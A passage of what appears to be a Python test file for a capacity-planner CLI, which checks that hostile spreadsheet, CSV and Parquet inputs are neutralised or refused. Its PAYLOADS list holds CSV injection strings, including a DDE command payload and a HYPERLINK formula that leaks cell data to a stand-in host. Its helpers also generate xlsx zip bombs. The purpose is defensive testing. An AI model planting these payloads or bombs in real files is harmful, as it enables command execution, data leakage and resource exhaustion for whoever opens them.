"""Issue 28 (files and workbooks) and issue 24 item 7: hostile files in, nothing out that runs.

Generated cases, grouped by what they try (the count of each group is :data:`COUNTS`, checked
by ``test_case_counts``):

* ``csv_injection``: text that a spreadsheet would run as a formula (OWASP's payloads after
  every leading blank, tab, CR, LF or byte-order mark) is neutralised in every CSV the planner
  writes (``sweep --out FILE.csv``), numbers stay numbers, and LibreOffice opening the CSV finds
  no formula.
* ``round_trip``: names, notes, vendors and labels that look like OOXML escapes (``_x0041_``)
  read back exactly as typed; an unedited export imports as no change (models and fleets
  named so too), also after LibreOffice saved it (``=TRUE()`` flags, floats rewritten to 15
  digits), and floats 1 ulp away are no change.
* ``not_a_file``: a FIFO (which blocked for ever), a device, a folder or an oversized file
  given to every reader is refused by name at once.
* ``xlsx_bounds``: a far cell, a row past the limit, a zip bomb, a part bomb in any .xlsx
  reader is refused by name in bounded memory (no abort inside a native reader), and a
  workbook of more new rows than one import creates is refused by its count.
* ``meaning``: a date, an error value or a NaN in a number cell, a binary, nested or date
  Parquet column, a benchmark with a negative duration, zero completed requests, 1e308
  tokens/s, a concurrency beyond 64 bits or deeply nested JSON: each refused by cell or field
  name, never coerced.

Every refusal is checked the same way (:func:`refused`): exit status 2, no traceback, each line
at most 300 characters, the field or cell named, and the database file's bytes unchanged.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from planner.io.textcells import csv_text, formula_like, ooxml_text
from planner.io.xlsx.parts import shared_strings, sheet_parts
from planner.io.xlsx.stream import read_columns
from planner.service import Workspace
from tests import helpers

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
ROOT = Path(__file__).resolve().parents[2]
GPU = {"memory_gib": 80, "bf16_tflops": 989, "memory_bandwidth_gb_per_s": 3350,
       "price_usd_per_hour": 2.5}
MAX_LINE = 300

# ------------------------------------------------------------------ generated case lists
PAYLOADS = ("=cmd|' /C calc'!A1", '=HYPERLINK("http://x.test/?"&A1,"click")',
            '=WEBSERVICE("http://x.test/")', "+1", "-1", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+1", "-2+3", "+A1", "@A1")
LEADS = ("", " ", "  ", "\t", "\r", "\n", "\ufeff", "\ufeff ", " \t", "\u00a0", "\u3000")
CSV_CASES = [lead + payload for payload in PAYLOADS for lead in LEADS]
SAFE_TEXTS = ("h100-sxm", "a=b", "1-2", "x+y", "mail@x", "", "plain text", "'quoted")
ESCAPES = ("_x0041_", "_x000D_", "_x005F_x0041_", "a_x0041_b", "_x0041__x0042_",
           "__x0041__", "_x00e9_", "_xD83D_", "_X0041_", "_x004_", "_x0041", "x0041_")
NOT_FILES = ("fifo", "device", "folder", "oversized")
READERS = ("model import", "model inspect", "estimate", "bench import", "scenario import csv",
           "scenario import xlsx", "scenario import parquet", "import workbook")
MEANING_XLSX = ("date", "error", "nan", "inf")

COUNTS = {
    "csv_injection": len(CSV_CASES) + len(SAFE_TEXTS) + 2,
    "round_trip": len(ESCAPES) * 2 + 4,
    "not_a_file": len(NOT_FILES) * len(READERS),
    "xlsx_bounds": 8,
    "meaning": len(MEANING_XLSX) * 3 + 5 + 8 + 1 + 1,
}
"""Cases per group: each parametrized case, and each refusal inside a test that loops over
cases (Parquet: 5, benchmark files: 8 and the check that none was stored; a stored
impossible run that calibrate refuses)."""


def test_case_counts() -> None:
    assert COUNTS == {"csv_injection": 120, "round_trip": 28, "not_a_file": 32,
                      "xlsx_bounds": 8, "meaning": 27}
    assert sum(COUNTS.values()) == 215


# ------------------------------------------------------------------ helpers
# the CLI in-process; an alarm fails the test instead of hanging for ever, a traceback fails it
run = partial(helpers.run, timeout_s=60, clean=True)


def db_bytes(data_dir: Path) -> str:
    return hashlib.sha256((data_dir / "planner.db").read_bytes()).hexdigest()


def refused(data_dir: Path, args: tuple[str, ...], *named: str) -> str:
    """Run ``args``; assert a refusal: exit 2, no traceback, lines of at most
    :data:`MAX_LINE` characters, every word of ``named`` in the message, the database file
    unchanged. Returns the message."""
    before = db_bytes(data_dir)
    code, out, err = run(*args)
    assert code == 2, (code, out, err)
    assert "Traceback" not in err and "Traceback" not in out, err
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines and lines[0].startswith("Error: "), err
    assert all(len(line) <= MAX_LINE for line in lines), [len(x) for x in lines]
    for word in named:
        assert word in err, (word, err)
    assert db_bytes(data_dir) == before, "a refused command changed the database"
    return err


def _cells_of_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


# ================================================================== csv_injection
@pytest.mark.parametrize("text", CSV_CASES, ids=[ascii(c) for c in CSV_CASES])
def test_formula_text_is_neutralised_in_csv(text: str) -> None:
    assert formula_like(text)
    cell = csv_text(text)
    assert cell == "'" + text  # the OWASP prefix, the text kept after it
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC).writerow([cell, 1.5, -2])
    line = buffer.getvalue()
    assert line.startswith("\"'") and line.rstrip("\r\n").endswith(",1.5,-2")


@pytest.mark.parametrize("text", SAFE_TEXTS)
def test_safe_text_and_numbers_are_unchanged_in_csv(text: str) -> None:
    assert not formula_like(text)
    assert csv_text(text) == text
    assert csv_text(-1.5) == -1.5 and csv_text(-3) == -3 and csv_text(True) is True


def _hostile_gpus(ws: Workspace) -> list[str]:
    """The payloads as GPU names (names refuse control characters and lose outer blanks,
    so the leads are checked on :func:`csv_text` itself above)."""
    names = []
    for payload in PAYLOADS:
        name = payload.replace(",", ";")  # --vary splits on commas
        ws.add_gpu(name, GPU)
        names.append(ws.gpu(name).name)
    return names


def test_sweep_csv_carries_no_formula(ws: Workspace, tmp_path: Path) -> None:
    names = _hostile_gpus(ws)
    out = tmp_path / "sweep.csv"
    code, _o, err = run("sweep", "demo/llama3-8b-24gib-6x8k", "--vary",
                        "gpu=" + ",".join(names), "--show", "cost_usd_per_hour,fits",
                        "--out", str(out))
    assert code == 0, err
    rows = _cells_of_csv(out)
    # names stay as typed; whether a GPU's efficiencies are measured is a column of its own
    assert rows[0] == ["gpu", "cost_usd_per_hour", "fits", "note", "gpu_efficiencies_measured"]
    assert [r[0] for r in rows[1:]] == ["'" + n for n in names]  # every one prefixed
    raw = out.read_text(encoding="utf-8").splitlines()
    for line, name in zip(raw[1:], names, strict=True):
        # text quoted, numbers and flags bare (2.5 USD/h; fits)
        assert line.startswith('"\'') and ",2.5,True," in line, (line, name)
    for row in rows[1:]:
        assert all(not formula_like(c) or c.startswith("'") for c in row), row


@pytest.mark.libreoffice
def test_libreoffice_opens_the_sweep_csv_without_a_formula(ws: Workspace,
                                                           tmp_path: Path) -> None:
    from tests.libreoffice import soffice

    exe = soffice()
    assert exe is not None, "LibreOffice is required: .ci/run installs libreoffice-calc"
    names = _hostile_gpus(ws)
    out = tmp_path / "sweep.csv"
    code, _o, err = run("sweep", "demo/llama3-8b-24gib-6x8k", "--vary",
                        "gpu=" + ",".join(names), "--show", "cost_usd_per_hour",
                        "--out", str(out))
    assert code == 0, err
    profile = tmp_path / "lo-profile"
    proc = subprocess.run(
        [exe, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path / "lo"),
         str(out)], capture_output=True, text=True, timeout=600)
    converted = tmp_path / "lo" / "sweep.xlsx"
    assert proc.returncode == 0 and converted.exists(), proc.stderr
    wb = openpyxl.load_workbook(converted)
    cells = [c for row in wb.active.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if c.column == 1][1:]
    assert len(texts) == len(names) and all(str(t).lstrip("'") in names for t in texts)
    prices = [c.value for c in cells if c.column == 2][1:]
    assert prices == [2.5] * len(names)  # numbers stay numbers
    wb.close()


# ================================================================== round_trip
def _xlsx_of(path: Path, values: list[Any]) -> tuple[zipfile.ZipFile, str]:
    """A one-column workbook: header ``v``, then ``values`` as written by openpyxl."""
    wb = openpyxl.Workbook()
    sheet = wb.active
    sheet.append(["v"])
    for v in values:
        sheet.append([v])
    wb.save(path)
    return zipfile.ZipFile(path), "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize("text", ESCAPES)
def test_escape_like_text_is_written_escaped_and_read_as_typed(text: str,
                                                               tmp_path: Path) -> None:
    written = ooxml_text(text)
    if re.search(r"_x[0-9A-Fa-f]{4}_", text):
        assert written != text and "_x005F_" in written
    else:
        assert written == text
    z, member = _xlsx_of(tmp_path / "t.xlsx", [written])
    strings = shared_strings(z, 1 << 20, lambda: AssertionError("too big"))
    sheet = read_columns(z, member, keep=[1], width=1, max_rows=10, max_bytes=1 << 20,
                         strings=strings)
    values, _f = sheet.values(0, strip=False, numeric=False)
    assert values.tolist() == [text]
    z.close()


def _dump_text(ws: Workspace) -> tuple[Any, ...]:
    return (sorted((s.fleet, s.name, s.notes, s.model, s.gpu) for s in ws.scenarios()),
            sorted((g.name, g.spec.vendor, g.spec.label) for g in ws.gpus()))


@pytest.mark.slow
@pytest.mark.parametrize("text", ESCAPES)
def test_unedited_export_with_escape_like_names_imports_as_no_change(
        text: str, ws: Workspace, isolated_data_dir: Path, tmp_path: Path) -> None:
    llama = json.loads((ROOT / "seeds" / "models" / "llama-3-8b.json").read_text())
    model, gpu, fleet = f"m{text}", f"g{text}", f"f{text}"
    ws.import_model(llama, model)
    ws.add_gpu(gpu, {**GPU, "vendor": f"v{text}", "label": text})
    ws.new_fleet(fleet)
    ws.new_scenario(fleet, f"s{text}", model=model, gpu=gpu, notes=f"{text}\n{text}")
    ws.new_scenario(fleet, "plain", model="llama-3-8b", gpu="h100-sxm", notes=text)
    before = _dump_text(ws)
    path = tmp_path / "r.xlsx"
    ws.export(path, [fleet])
    plans = ws.import_workbook(path, dry_run=True)
    assert [p.fields for p in plans] == [{}, {}]
    stored = db_bytes(isolated_data_dir)
    code, _o, err = run("import", str(path))
    assert code == 0, err
    assert db_bytes(isolated_data_dir) == stored and _dump_text(ws) == before


@pytest.mark.libreoffice
def test_libreoffice_saved_workbook_imports_as_no_change(ws: Workspace, tmp_path: Path) -> None:
    """LibreOffice writes flags as ``=TRUE()`` / ``=FALSE()`` and floats to 15 digits."""
    from tests.libreoffice import recalculate, soffice

    assert soffice() is not None, "LibreOffice is required: .ci/run installs libreoffice-calc"
    ws.new_fleet("f")
    ws.new_scenario("f", "a", model="llama-3-8b", gpu="h100-sxm", notes="_x0041_ note")
    ws.new_scenario("f", "b", model="llama-3-8b", gpu="h100-sxm",
                    target_requests_per_s=0.1 + 0.2)
    versions = ws.scenario_versions("f")
    path = tmp_path / "r.xlsx"
    ws.export(path, ["f"])
    saved = recalculate(path, tmp_path)
    with zipfile.ZipFile(saved) as z:
        xml = z.read(sheet_parts(z)["Scenarios"]).decode()
    assert re.search(r"<f[^>]*>TRUE\(\)</f>", xml) and re.search(r"<f[^>]*>FALSE\(\)</f>", xml)
    plans = ws.import_workbook(saved)
    assert [(p.name, p.fields) for p in plans] == [("a", {}), ("b", {})]
    assert ws.scenario_versions("f") == versions  # nothing bumped


@pytest.mark.slow
def test_floats_rewritten_to_15_digits_are_no_change(ws: Workspace, tmp_path: Path) -> None:
    ws.new_fleet("f")
    ws.new_scenario("f", "a", model="llama-3-8b", gpu="h100-sxm",
                    target_requests_per_s=0.1 + 0.2, reserve_gib=1 / 3)
    path = tmp_path / "r.xlsx"
    ws.export(path, ["f"])
    rewritten = tmp_path / "w.xlsx"
    changed = 0

    def fifteen(m: re.Match[str]) -> str:
        nonlocal changed
        short = f"{float(m.group(1)):.15g}"
        changed += short != m.group(1)
        return f"<v>{short}</v>"

    with zipfile.ZipFile(path) as src, zipfile.ZipFile(rewritten, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                data = re.sub(r"<v>(-?[0-9]*\.[0-9]+(?:[eE][-+]?[0-9]+)?)</v>", fifteen,
                              data.decode()).encode()
            dst.writestr(item, data)
    assert changed >= 2  # 0.30000000000000004 and 0.3333333333333333 at least
    assert [p.fields for p in ws.import_workbook(rewritten, dry_run=True)] == [{}]
    # a real edit at the 15th digit still counts
    edited = tmp_path / "e.xlsx"
    with zipfile.ZipFile(rewritten) as src, zipfile.ZipFile(edited, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                data = data.replace(b"<v>0.3</v>", b"<v>0.300000000000001</v>")
            dst.writestr(item, data)
    fields = [p.fields for p in ws.import_workbook(edited, dry_run=True)]
    assert fields == [{"target_requests_per_s": 0.300000000000001}]


def _sheet_xml(tmp_path: Path, cells: str, styles: str | None = None) -> Path:
    """A minimal .xlsx: one sheet, header ``name,model,gpu,batch`` then the row ``cells``."""
    head = ('<row r="1">' + "".join(
        f'<c r="{c}1" t="inlineStr"><is><t>{h}</t></is></c>'
        for c, h in zip("ABCD", ("name", "model", "gpu", "batch"), strict=True)) + "</row>")
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
             'openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + head
             + f'<row r="2">{cells}</row></sheetData></worksheet>')
    path = tmp_path / "t.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/workbook.xml", '<workbook xmlns:r="r"><sheets><sheet name="S" '
                   'sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<Relationships><Relationship Id="rId1" '
                   'Target="worksheets/sheet1.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        if styles is not None:
            z.writestr("xl/styles.xml", styles)
    return path


ROW = ('<c r="A2" t="inlineStr"><is><t>s1</t></is></c><c r="B2" t="inlineStr"><is><t>'
       'llama-3-8b</t></is></c><c r="C2" t="inlineStr"><is><t>h100-sxm</t></is></c>')


def test_constant_flag_formulas_read_as_flags(tmp_path: Path) -> None:
    path = _sheet_xml(tmp_path, '<c r="A2" t="b"><f aca="false">TRUE()</f><v>1</v></c>'
                      '<c r="B2" t="b"><f>FALSE()</f><v>0</v></c>'
                      '<c r="C2" t="b"><f>false</f><v>0</v></c>'
                      '<c r="D2" t="b"><f>NOT(A2)</f><v>0</v></c>')
    with zipfile.ZipFile(path) as z:
        sheet = read_columns(z, "xl/worksheets/sheet1.xml", keep=[1, 2, 3, 4], width=4,
                             max_rows=10, max_bytes=1 << 20, strings=[])
    got = [sheet.values(i, numeric=False) for i in range(4)]
    assert [v.tolist() for v, _f in got] == [[True], [False], [False], [False]]
    assert [f.tolist() for _v, f in got] == [[False], [False], [False], [True]]


def test_a_formula_that_is_not_a_constant_flag_is_still_refused(ws: Workspace,
                                                                isolated_data_dir: Path,
                                                                tmp_path: Path) -> None:
    ws.new_fleet("f")
    ws.new_scenario("f", "a", model="llama-3-8b", gpu="h100-sxm")
    path = tmp_path / "r.xlsx"
    ws.export(path, ["f"])
    from planner.io.xlsx.layout import letters

    col = letters("inference")["batch"]
    edited = tmp_path / "e.xlsx"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(edited, "w") as dst:
        scenarios = sheet_parts(src)["Scenarios"]
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == scenarios:
                data = re.sub(rf'<c r="{col}2"([^>]*)><v>1</v></c>'.encode(),
                              rf'<c r="{col}2"\1><f>TRUE()+0</f><v>1</v></c>'.encode(), data)
            dst.writestr(item, data)
    ws.close()
    refused(isolated_data_dir, ("import", str(edited)), f"Scenarios!{col}2 (batch)",
            "is a formula")


# ================================================================== not_a_file
SUFFIX = {"model import": ".json", "model inspect": ".json", "estimate": ".json",
          "bench import": ".json", "scenario import csv": ".csv",
          "scenario import xlsx": ".xlsx", "scenario import parquet": ".parquet",
          "import workbook": ".xlsx"}
LIMIT = {".json": 4 << 20, ".csv": 2 << 30, ".xlsx": 4 << 30, ".parquet": 2 << 30}
"""Each reader's size bound (bench files: 10 MiB, under the config.json's 4 MiB + 1 used)."""


def _args(reader: str, path: Path) -> tuple[str, ...]:
    p = str(path)
    return {"model import": ("model", "import", p), "model inspect": ("model", "inspect", p),
            "estimate": ("estimate", "--model", p, "--gpu", "h100-sxm"),
            "bench import": ("bench", "import", p, "--model", "llama-3-8b", "--gpu",
                             "h100-sxm"),
            "scenario import csv": ("scenario", "import", "demo", p),
            "scenario import xlsx": ("scenario", "import", "demo", p),
            "scenario import parquet": ("scenario", "import", "demo", p),
            "import workbook": ("import", p)}[reader]


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize("kind", NOT_FILES)
def test_only_regular_files_of_bounded_size_are_read(kind: str, reader: str,
                                                     isolated_data_dir: Path,
                                                     tmp_path: Path) -> None:
    suffix = SUFFIX[reader]
    path = tmp_path / f"input{suffix}"
    if kind == "fifo":
        os.mkfifo(path)  # opening it for reading blocked for ever before
        words = ("named pipe (FIFO)", "not a regular file")
    elif kind == "device":
        path.symlink_to("/dev/zero")
        words = ("is a device", "not a regular file")
    elif kind == "folder":
        path.mkdir()
        words = ("is a folder", "not a regular file")
        if suffix == ".json" and reader != "bench import":  # a model folder: its config.json
            words = ("config.json", "no such file")
    else:
        with path.open("wb") as fh:  # sparse: nothing is written, nothing may be read
            fh.truncate((10 << 20 if reader == "bench import" else LIMIT[suffix]) + 1)
        words = ("larger than",)
    err = refused(isolated_data_dir, _args(reader, path), str(path).rsplit("/", 1)[-1],
                  *words)
    assert len(err.strip().splitlines()) == 1, err


# ================================================================== xlsx_bounds
def _limited(code: str, data_dir: Path, limit_bytes: int = 2 << 30, timeout_s: int = 300
             ) -> subprocess.CompletedProcess:
    """``code`` in a fresh interpreter whose address space is capped at ``limit_bytes``: a
    reader that builds a grid or inflates a bomb dies there instead of passing."""
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit_bytes, limit_bytes))

    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=timeout_s, preexec_fn=limit, cwd=ROOT,
                          env={**os.environ, "PLANNER_DATA_DIR": str(data_dir)})


def _cli_limited(args: tuple[str, ...], data_dir: Path, **kw: Any) -> tuple[int, str]:
    code = f"import sys\nfrom planner.cli import main\nsys.exit(main({list(args)!r}))\n"
    proc = _limited(code, data_dir, **kw)
    return proc.returncode, proc.stderr


def _refused_limited(data_dir: Path, args: tuple[str, ...], *named: str) -> str:
    before = db_bytes(data_dir)
    code, err = _cli_limited(args, data_dir)
    assert code == 2 and "Traceback" not in err, (code, err[-3000:])
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines[0].startswith("Error: ") and all(len(x) <= MAX_LINE for x in lines), err
    for word in named:
        assert word in err, (word, err)
    assert db_bytes(data_dir) == before
    return err


def _bulk_sheet(tmp_path: Path, rows: str, *, sheet_data_pad: int = 0,
                strings_pad: int = 0) -> Path:
    """A table .xlsx: header name,model,gpu, one good row, then ``rows`` (XML); optionally
    ``sheet_data_pad`` bytes of whitespace inside sheetData and a shared string table padded
    with ``strings_pad`` bytes (zip bombs: whitespace deflates about 1000:1)."""
    path = _sheet_xml(tmp_path, ROW + rows.replace("REPLACE", ""))
    if not (sheet_data_pad or strings_pad):
        return path
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml" and sheet_data_pad:
                head, tail = data.split(b"<sheetData>")
                with dst.open(item.filename, "w", force_zip64=True) as out:
                    out.write(head + b"<sheetData>")
                    block = b" " * (1 << 20)
                    for _ in range(sheet_data_pad >> 20):
                        out.write(block)
                    out.write(tail)
                continue
            dst.writestr(item, data)
        if strings_pad:
            with dst.open("xl/sharedStrings.xml", "w", force_zip64=True) as out:
                out.write(b"<sst><si><t>")
                block = b" " * (1 << 20)
                for _ in range(strings_pad >> 20):
                    out.write(block)
                out.write(b"</t></si></sst>")
    return bomb


@pytest.mark.slow
def test_bulk_xlsx_far_cell_is_refused_in_bounded_memory(isolated_data_dir: Path,
                                                         tmp_path: Path) -> None:
    path = _bulk_sheet(tmp_path, "</row><row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c>")
    _refused_limited(isolated_data_dir, ("scenario", "import", "demo", str(path)),
                     "XFD1048576", "outside a table of scenarios")


@pytest.mark.slow
def test_bulk_xlsx_row_past_the_limit_is_refused(isolated_data_dir: Path,
                                                 tmp_path: Path) -> None:
    path = _bulk_sheet(tmp_path, "</row><row r=\"1048577\"><c r=\"A1048577\"><v>1</v></c>")
    _refused_limited(isolated_data_dir, ("scenario", "import", "demo", str(path)),
                     "A1048577", "1,048,575 data rows")


@pytest.mark.slow
def test_bulk_xlsx_whitespace_zip_bomb_is_read_in_bounded_memory(isolated_data_dir: Path,
                                                                 tmp_path: Path) -> None:
    """1 GiB of whitespace in sheetData (1 MB of zip), read under a 2 GiB address space: the
    stream keeps nothing of it, and the one good row imports (dry run)."""
    path = _bulk_sheet(tmp_path, "", sheet_data_pad=1 << 30)
    assert path.stat().st_size < 8 << 20
    code, err = _cli_limited(("scenario", "import", "demo", str(path), "--dry-run"),
                             isolated_data_dir)
    assert code == 0, err[-3000:]


@pytest.mark.slow
def test_bulk_xlsx_shared_string_bomb_is_refused(isolated_data_dir: Path,
                                                 tmp_path: Path) -> None:
    path = _bulk_sheet(tmp_path, "", strings_pad=300 << 20)
    _refused_limited(isolated_data_dir, ("scenario", "import", "demo", str(path)),
                     "shared string table is larger than 256 MiB")


def test_bulk_xlsx_too_many_columns_is_refused(isolated_data_dir: Path,
                                               tmp_path: Path) -> None:
    path = _bulk_sheet(tmp_path, '<c r="TA2"><v>1</v></c>')  # column 521
    refused(isolated_data_dir, ("scenario", "import", "demo", str(path)), "TA2",
            "512 columns")


@pytest.mark.slow
def test_workbook_gpus_sheet_far_cell_is_refused(ws: Workspace, isolated_data_dir: Path,
                                                 tmp_path: Path) -> None:
    """The GPUs sheet went to the native reader whole; it is streamed like the rest."""
    ws.new_fleet("f")
    ws.new_scenario("f", "a", model="llama-3-8b", gpu="h100-sxm")
    path = tmp_path / "r.xlsx"
    ws.export(path, ["f"])
    far = tmp_path / "far.xlsx"
    _rewrite(path, far, {"GPUs": lambda data: data.replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')})
    ws.close()  # its last writes checkpointed into the file: the bytes compared are settled
    _refused_limited(isolated_data_dir, ("import", str(far)), "GPUs!XFD1048576",
                     "10,000 GPU rows")


@pytest.mark.slow
def test_workbook_part_bomb_is_refused(ws: Workspace, isolated_data_dir: Path,
                                       tmp_path: Path) -> None:
    ws.new_fleet("f")
    ws.new_scenario("f", "a", model="llama-3-8b", gpu="h100-sxm")
    path = tmp_path / "r.xlsx"
    ws.export(path, ["f"])
    bomb = tmp_path / "bomb.xlsx"
    _rewrite(path, bomb, {"xl/workbook.xml": lambda data: data.replace(
        b"<sheets>", b"<sheets>" + b" " * (20 << 20))})
    ws.close()
    _refused_limited(isolated_data_dir, ("import", str(bomb)), "xl/workbook.xml larger than "
                     "16 MiB")


# ================================================================== meaning
STYLES = ('<styleSheet><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>'
          "</styleSheet>")
BAD_CELL = {"date": ('s="1"', "46388", "is a date or time cell (serial 46388)"),
            "error": ('t="e"', "#DIV/0!", "is the error value #DIV/0!"),
            "nan": ("", "NaN", "is NaN, not a finite number"),
            "inf": ("", "-INF", "is -INF, not a finite number")}
"""A number cell that is not a number: (attributes, content, the reason given)."""


def _bad_cell(ref: str, kind: str, style: int = 1) -> bytes:
    attrs, value, _why = BAD_CELL[kind]
    attrs = attrs.replace('s="1"', f's="{style}"')
    return f'<c r="{ref}" {attrs}><v>{value}</v></c>'.encode()


@pytest.mark.parametrize("kind", MEANING_XLSX)
def test_bulk_xlsx_number_cell_that_is_no_number_is_refused(kind: str, isolated_data_dir: Path,
                                                            tmp_path: Path) -> None:
    path = _sheet_xml(tmp_path, ROW + _bad_cell("D2", kind).decode(), styles=STYLES)
    err = refused(isolated_data_dir, ("scenario", "import", "demo", str(path)),
                  f"{path}:2 (batch): {BAD_CELL[kind][2]}")
    assert "nothing imported, 1 problem" in err


def _with_date_style(styles: bytes) -> tuple[bytes, int]:
    """``styles`` with one more cell style showing a date (numFmtId 14); its index."""
    body = re.search(rb"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
    assert body is not None
    index = len(re.findall(rb"<xf\b", body.group(1)))
    styles = styles.replace(b"</cellXfs>", b'<xf numFmtId="14" fontId="0" fillId="0" '
                            b'borderId="0" applyNumberFormat="1"/></cellXfs>', 1)
    return re.sub(rb'(<cellXfs[^>]*count=")\d+', rb"\g<1>%d" % (index + 1), styles), index


def _rewrite(path: Path, out: Path, edits: dict[str, Callable[[bytes], bytes]]) -> None:
    """``path`` copied to ``out`` with each named part rewritten by its function: a key is a
    part's name (``xl/workbook.xml``) or a sheet's title (``GPUs``)."""
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        sheets = sheet_parts(src)
        parts = {sheets.get(key, key): edit for key, edit in edits.items()}
        for item in src.infolist():
            data = src.read(item.filename)
            dst.writestr(item, parts[item.filename](data) if item.filename in parts else data)


def _edit_cell(path: Path, out: Path, sheet: str, ref: str, kind: str) -> None:
    """``path`` with cell ``ref`` of ``sheet`` replaced by a :data:`BAD_CELL` of ``kind``."""
    with zipfile.ZipFile(path) as src:
        styles, index = _with_date_style(src.read("xl/styles.xml"))

    def cell(data: bytes) -> bytes:
        data, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)'.encode(),
                          _bad_cell(ref, kind, index), data, count=1)
        assert n == 1, ref
        return data

    _rewrite(path, out, {sheet: cell, "xl/styles.xml": lambda _data: styles})


@pytest.mark.slow
@pytest.mark.parametrize("kind", MEANING_XLSX)
def test_workbook_number_cell_that_is_no_number_is_refused(kind: str, ws: Workspace,
                                                           isolated_data_dir: Path,
                                                           tmp_path: Path) -> None:
    from planner.io.xlsx.layout import letters

    ws.new_fleet("f")
    ws.new_scenario("f", "a", model="llama-3-8b", gpu="h100-sxm", batch=4)
    path = tmp_path / "r.xlsx"
    ws.export(path, ["f"])
    col = letters("inference")["batch"]
    edited = tmp_path / "e.xlsx"
    _edit_cell(path, edited, "Scenarios", f"{col}2", kind)
    ws.close()
    err = refused(isolated_data_dir, ("import", str(edited)),
                  f"Scenarios!{col}2 (batch): {BAD_CELL[kind][2]}")
    assert len(err.strip().splitlines()) == 2, err  # the file, then the one cell


@pytest.mark.slow
@pytest.mark.parametrize("kind", MEANING_XLSX)
def test_gpus_sheet_number_cell_that_is_no_number_is_refused(kind: str, ws: Workspace,
                                                             isolated_data_dir: Path,
                                                             tmp_path: Path) -> None:
    from openpyxl.utils import get_column_letter

    from planner.io.xlsx.layout import GPU_SHEET

    ws.new_fleet("f")
    ws.new_scenario("f", "a", model="llama-3-8b", gpu="h100-sxm")
    path = tmp_path / "r.xlsx"
    ws.export(path, ["f"])
    col = get_column_letter(next(i for i, (k, *_r) in enumerate(GPU_SHEET, 1)
                                 if k == "memory_gib"))
    edited = tmp_path / "e.xlsx"
    _edit_cell(path, edited, "GPUs", f"{col}2", kind)
    ws.close()
    refused(isolated_data_dir, ("import", str(edited)),
            f"GPUs!{col}2 (memory_gib): {BAD_CELL[kind][2]}")


def _parquet(path: Path, **columns: Any) -> Path:
    import pyarrow as pa
    import pyarrow.parquet as pq

    base = {"name": pa.array(["s1"]), "model": pa.array(["llama-3-8b"]),
            "gpu": pa.array(["h100-sxm"])}
    pq.write_table(pa.table({**base, **columns}), path)
    return path


def test_parquet_columns_that_hold_no_scenario_values_are_refused(isolated_data_dir: Path,
                                                                  tmp_path: Path) -> None:
    import datetime

    import pyarrow as pa

    cases = {
        "struct": ({"notes": pa.array([{"a": 1}])}, "column 'notes' holds nested"),
        "list": ({"batch": pa.array([[1, 2]])}, "column 'batch' holds nested"),
        "binary": ({"name": pa.array([b"\xff\xfe"], type=pa.binary())},
                   "column 'name' holds binary values"),
        "timestamp": ({"batch": pa.array([datetime.datetime(2027, 1, 1)])},
                      "column 'batch' holds date or time values"),
        "nan": ({"batch": pa.array([float("nan")], type=pa.float64())},
                ":2 (batch): is NaN, not a finite number"),
    }
    for case, (columns, words) in cases.items():
        path = _parquet(tmp_path / f"{case}.parquet", **columns)
        refused(isolated_data_dir, ("scenario", "import", "demo", str(path)), words)
    assert len(cases) == 5


BENCH_HEAD = {"completed": 10, "total_input_tokens": 1000, "total_output_tokens": 1000,
              "output_throughput": 500.0, "mean_ttft_ms": 20.0, "max_concurrency": 4}


def test_impossible_benchmark_runs_are_refused_before_a_fit_sees_them(
        isolated_data_dir: Path, tmp_path: Path) -> None:
    cases = {
        "negative": ({**BENCH_HEAD, "mean_tpot_ms": -5}, "mean_tpot_ms '-5' must be a finite"),
        "minus-zero": ({**BENCH_HEAD, "mean_ttft_ms": -0.0}, "ttft_mean_ms -0 must be above 0"),
        "no-requests": ({**BENCH_HEAD, "completed": 0}, "no request completed"),
        "1e308": ({**BENCH_HEAD, "output_throughput": 1e308},
                  "output_tokens_per_s 1e+308 must be above 0 and at most 1,000,000,000"),
        "concurrency": ({**BENCH_HEAD, "max_concurrency": 2**70},
                        "concurrency 1180591620717411303424 must be a whole number from 1"),
    }
    flags = ("--model", "llama-3-8b", "--gpu", "h100-sxm", "--engine", "vllm")
    for case, (record, words) in cases.items():
